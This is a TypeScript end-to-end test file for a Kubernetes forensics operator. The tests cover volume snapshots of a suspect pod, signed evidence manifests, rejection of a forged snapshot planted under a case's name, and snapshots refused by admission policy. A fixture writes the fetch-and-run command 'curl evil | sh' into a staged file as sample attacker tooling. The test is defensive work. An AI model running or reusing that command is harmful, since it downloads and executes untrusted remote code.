import {
  AdmissionregistrationV1Api,
  AuthorizationV1Api,
  CoreV1Api,
  CustomObjectsApi,
  type V1PersistentVolumeClaim,
  type V1Volume,
} from '@kubernetes/client-node';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { VolumeSnapshotRecord } from '../../../src/api/forensiccase.js';
import {
  CASE_UID_ANNOTATION,
  CLAIM_ANNOTATION,
  snapshotName,
  type VolumeSnapshot,
} from '../../../src/collection/volume-snapshots.js';
import { CASE_LABEL } from '../../../src/containment/labels.js';
import { verifyCase } from '../../../src/evidence/verify.js';
import { S3EvidenceStore } from '../../../src/evidence/s3-store.js';
import { createRegistry } from '../../../src/observability/metrics.js';
import { installCrds } from '../../testenv/crds.js';
import { snapshotEntries, startCsi, type CsiEnv } from '../../testenv/csi.js';
import { startCluster, type Cluster } from '../../testenv/kube.js';
import { startMinio, type Minio } from '../../testenv/minio.js';
import { startCaseController } from '../../testenv/operator.js';
import { operatorKubeConfig } from '../../testenv/rbac.js';
import { startContainer, type TestContainer } from '../../testenv/runc.js';
import { waitFor } from '../../testenv/wait.js';
import { Workloads, type CaseView } from '../../testenv/workload.js';
import { createPod, createSigningKeySecret, markRunning } from '../collection/helpers.js';

type SnapshotCase = CaseView & { status?: CaseView['status'] & { volumeSnapshots?: VolumeSnapshotRecord[] } };

const SNAPSHOTS = { group: 'snapshot.storage.k8s.io', version: 'v1', plural: 'volumesnapshots' };

/**
 * Volume snapshots end to end (ADR 0026): the real snapshot-controller, csi-snapshotter and
 * csi-provisioner with our host-path CSI driver, a real API server, MinIO with Object Lock and
 * inline collection of a real runc container; the operator runs with deploy/rbac.yaml only.
 */
describe('volume snapshots of the suspect pod', () => {
  let cluster: Cluster;
  let minio: Minio;
  let csi: CsiEnv;
  let c: TestContainer;
  let w: Workloads;
  let core: CoreV1Api;
  let custom: CustomObjectsApi;
  let publicKeyPem: string;
  let operator: Awaited<ReturnType<typeof startCaseController>>;
  const node = 'node-real';
  const volumes: V1Volume[] = [
    { name: 'data', persistentVolumeClaim: { claimName: 'data' } },
    { name: 'scratch', persistentVolumeClaim: { claimName: 'unbound' } },
    { name: 'tmp', emptyDir: {} },
  ];

  const claim = async (
    name: string,
    storageClassName: string,
    namespace = 'shop',
  ): Promise<V1PersistentVolumeClaim> =>
    core.createNamespacedPersistentVolumeClaim({
      namespace,
      body: {
        metadata: { name },
        spec: {
          storageClassName,
          accessModes: ['ReadWriteOnce'],
          resources: { requests: { storage: '1Mi' } },
        },
      },
    });
  const startOperator = async () =>
    startCaseController(await operatorKubeConfig(cluster), {
      collection: {
        mode: 'inline',
        evidence: { credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey } },
        inline: { hostReferencePid: process.pid, runtimeRoots: { runc: c.stateRoot } },
        snapshotterRoots: c.layerRoots,
        pollMs: 500,
      },
    });
  const caseSpec = (pod: string, namespace = 'shop') => ({
    target: { namespace, pod },
    reason: 'test: tools staged on a volume',
    evidence: {
      store: { type: 's3', bucket: minio.bucket, prefix: 'amber/', endpoint: minio.endpoint },
      retention: { mode: 'GOVERNANCE', days: 1 },
    },
  });
  const readSnapshot = async (name: string) =>
    (await custom.getNamespacedCustomObject({ ...SNAPSHOTS, namespace: 'shop', name })) as VolumeSnapshot & {
      metadata: { ownerReferences?: unknown[] };
    };

  beforeAll(async () => {
    [cluster, minio, c] = await Promise.all([
      startCluster(),
      startMinio(),
      startContainer({ command: ['/bin/sh', '-c', 'touch /ready; exec sleep 600'] }),
    ]);
    await c.waitForFile('/ready');
    csi = await startCsi(cluster);
    const admin = cluster.kubeConfig();
    core = admin.makeApiClient(CoreV1Api);
    custom = admin.makeApiClient(CustomObjectsApi);
    await installCrds(admin);
    w = new Workloads(admin);
    await core.createNode({ body: { metadata: { name: node, labels: { 'kubernetes.io/hostname': node } } } });
    await w.namespace('shop');
    await claim('data', csi.storageClass);
    await claim('unbound', 'no-such-class');
    const bound = await waitFor(
      `claim data Bound\n${csi.logTails()}`,
      () => core.readNamespacedPersistentVolumeClaim({ namespace: 'shop', name: 'data' }),
      (p) => p.status?.phase === 'Bound',
      60_000,
    );
    const pv = await core.readPersistentVolume({ name: bound.spec!.volumeName! });
    writeFileSync(join(csi.volumeDir(pv.spec!.csi!.volumeHandle), 'staged.sh'), 'curl evil | sh\n');

    // A namespace where the API server refuses every VolumeSnapshot, as a filled quota or a
    // cluster's own admission policy does; the policy is in force once a probe is refused.
    await w.namespace('full');
    const admission = admin.makeApiClient(AdmissionregistrationV1Api);
    await admission.createValidatingAdmissionPolicy({
      body: {
        metadata: { name: 'no-snapshots' },
        spec: {
          failurePolicy: 'Fail',
          matchConstraints: {
            resourceRules: [
              {
                apiGroups: ['snapshot.storage.k8s.io'],
                apiVersions: ['v1'],
                operations: ['CREATE'],
                resources: ['volumesnapshots'],
              },
            ],
          },
          validations: [{ expression: 'false', message: 'no room for another snapshot here' }],
        },
      },
    });
    await admission.createValidatingAdmissionPolicyBinding({
      body: {
        metadata: { name: 'no-snapshots' },
        spec: {
          policyName: 'no-snapshots',
          validationActions: ['Deny'],
          matchResources: {
            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'full' } },
          },
        },
      },
    });
    const probe = (i: number) =>
      custom
        .createNamespacedCustomObject({
          ...SNAPSHOTS,
          namespace: 'full',
          body: {
            apiVersion: 'snapshot.storage.k8s.io/v1',
            kind: 'VolumeSnapshot',
            metadata: { name: `probe-${i}` },
            spec: { source: { persistentVolumeClaimName: 'none' } },
          },
        })
        .then(
          () => 'created',
          (err: unknown) => String(err),
        );
    let attempt = 0;
    await waitFor(
      'the admission policy refuses snapshots in namespace full',
      () => probe(attempt++),
      (r) => r.includes('no room for another snapshot'),
      30_000,
    );
    await claim('data', csi.storageClass, 'full');
    await waitFor(
      `claim full/data Bound\n${csi.logTails()}`,
      () => core.readNamespacedPersistentVolumeClaim({ namespace: 'full', name: 'data' }),
      (p) => p.status?.phase === 'Bound',
      60_000,
    );

    await operatorKubeConfig(cluster); // the operator namespace and RBAC, before the Secret
    ({ publicKeyPem } = await createSigningKeySecret(admin));
    for (const [namespace, pod] of [
      ['shop', 'victim'],
      ['shop', 'victim-forged'],
      ['full', 'victim-quota'],
    ] as const) {
      await createPod(admin, namespace, pod, node, { volumes });
      await markRunning(admin, namespace, pod, `runc://${c.id}`);
    }
    operator = await startOperator();
  }, 180_000);
  afterAll(async () => {
    await operator?.stop();
    await csi?.stop();
    await c?.stop();
    await minio?.stop();
    await cluster?.stop();
  });

  it('snapshots each bound CSI claim on containment, records it in status and the signed manifest, and never lets go of it', async () => {
    await w.createCase('case-vol', caseSpec('victim'));
    const kase = (await w.waitForPhase('case-vol', 'Sealed', 120_000)) as SnapshotCase;
    const records = kase.status?.volumeSnapshots ?? [];
    const name = snapshotName('case-vol', kase.metadata.uid!, 'data');
    expect(records).toEqual([
      expect.objectContaining({
        volume: 'data',
        claim: 'data',
        phase: 'Ready',
        name,
        volumeSnapshotClass: csi.snapshotClass,
        driver: csi.driver,
        deletionPolicy: 'Retain',
        restoreSize: '1Mi',
        snapshotHandle: expect.any(String),
        creationTime: expect.any(String),
        requestedAt: expect.any(String),
      }),
      expect.objectContaining({
        volume: 'scratch',
        claim: 'unbound',
        phase: 'Skipped',
        message: 'the claim is not bound (phase Pending)',
      }),
    ]);
    const ready = records[0]!;
    // Asked for before the collection: the timeline says so.
    const actions = (kase.status?.timeline ?? []).map((e) => e.action);
    expect(actions.indexOf('SnapshotVolume')).toBeLessThan(actions.indexOf('CollectEvidence'));

    // The storage system really holds the volume as it was.
    const entries = await snapshotEntries(csi.snapshotFile(ready.snapshotHandle!));
    expect(entries.get('staged.sh')?.body.toString()).toBe('curl evil | sh\n');

    // The object: the case's label and UID, no ownerReference (the garbage collector would
    // delete it with the case).
    const vs = await readSnapshot(name);
    expect(vs.metadata?.labels?.[CASE_LABEL]).toBe('case-vol');
    expect(vs.metadata?.annotations).toMatchObject({
      [CASE_UID_ANNOTATION]: kase.metadata.uid,
      [CLAIM_ANNOTATION]: 'data',
    });
    expect(vs.metadata?.ownerReferences ?? []).toEqual([]);

    // The signed manifest carries the records as the status has them; verify passes.
    const store = new S3EvidenceStore({
      client: minio.client(),
      bucket: minio.bucket,
      prefix: 'amber',
      registry: createRegistry(),
    });
    const report = await verifyCase(store.caseLocation('case-vol'), {
      publicKeyPem,
      s3: {
        endpoint: minio.endpoint,
        region: minio.region,
        forcePathStyle: true,
        credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
      },
    });
    expect(report.ok).toBe(true);
    expect((report.manifest.case as { volumeSnapshots?: unknown }).volumeSnapshots).toEqual(records);

    // The operator may create and read snapshots, never delete or change one.
    const authz = (await operatorKubeConfig(cluster)).makeApiClient(AuthorizationV1Api);
    for (const verb of ['delete', 'update', 'patch', 'deletecollection']) {
      const review = await authz.createSelfSubjectAccessReview({
        body: {
          spec: {
            resourceAttributes: {
              group: SNAPSHOTS.group,
              resource: 'volumesnapshots',
              verb,
              namespace: 'shop',
            },
          },
        },
      });
      expect(review.status?.allowed, verb).toBe(false);
    }

    // Deleting the case releases the pod and leaves the snapshot.
    await w.custom.deleteClusterCustomObject({
      group: 'forensics.amber.io',
      version: 'v1alpha1',
      plural: 'forensiccases',
      name: 'case-vol',
    });
    await waitFor(
      'case-vol deleted',
      () =>
        w
          .getCase('case-vol')
          .then(() => false)
          .catch(() => true),
      (gone) => gone,
      30_000,
    );
    expect((await readSnapshot(name)).metadata?.uid).toBe(vs.metadata?.uid);
  });

  it('attack: a VolumeSnapshot planted under the case’s name is never taken for the evidence', async () => {
    // The name hashes in the case's UID, so it cannot be taken before the case exists. Someone
    // who can read the case plants one the moment it does (the operator is stopped here to
    // win that race for sure): same claim, same class, the case's label, a guessed UID.
    await operator.stop();
    await w.createCase('case-forged', caseSpec('victim-forged'));
    const uid = (await w.getCase('case-forged')).metadata.uid!;
    const name = snapshotName('case-forged', uid, 'data');
    await custom.createNamespacedCustomObject({
      ...SNAPSHOTS,
      namespace: 'shop',
      body: {
        apiVersion: 'snapshot.storage.k8s.io/v1',
        kind: 'VolumeSnapshot',
        metadata: {
          name,
          labels: { [CASE_LABEL]: 'case-forged' },
          annotations: { [CASE_UID_ANNOTATION]: 'guessed', [CLAIM_ANNOTATION]: 'data' },
        },
        spec: { volumeSnapshotClassName: csi.snapshotClass, source: { persistentVolumeClaimName: 'data' } },
      },
    });
    const planted = await readSnapshot(name);
    operator = await startOperator();
    const kase = (await w.waitForPhase('case-forged', 'Sealed', 120_000)) as SnapshotCase;
    expect(kase.status?.volumeSnapshots?.[0]).toMatchObject({
      claim: 'data',
      phase: 'Failed',
      message: expect.stringMatching(/exists that Amber did not take for this case/),
    });
    expect(kase.status?.volumeSnapshots?.[0]?.uid).toBeUndefined();
    expect(kase.status?.volumeSnapshots?.[0]?.snapshotHandle).toBeUndefined();
    // Untouched, and the timeline says why it was not used.
    expect((await readSnapshot(name)).metadata?.uid).toBe(planted.metadata?.uid);
    const timeline = kase.status?.timeline ?? [];
    expect(timeline).toContainEqual(expect.objectContaining({ action: 'SnapshotVolume', outcome: 'Failed' }));
  });

  it('a snapshot the API server refuses (a quota filled, an admission policy) is recorded, and the case is still contained, collected and sealed', async () => {
    await w.createCase('case-quota', caseSpec('victim-quota', 'full'));
    const kase = (await w.waitForPhase('case-quota', 'Sealed', 120_000)) as SnapshotCase;
    expect(kase.status?.volumeSnapshots?.[0]).toMatchObject({
      claim: 'data',
      phase: 'Failed',
      message: expect.stringMatching(/the API server refused VolumeSnapshot .*no room for another snapshot/),
    });
    expect(kase.status?.conditions?.find((x) => x.type === 'Contained')?.status).toBe('True');
  });
});
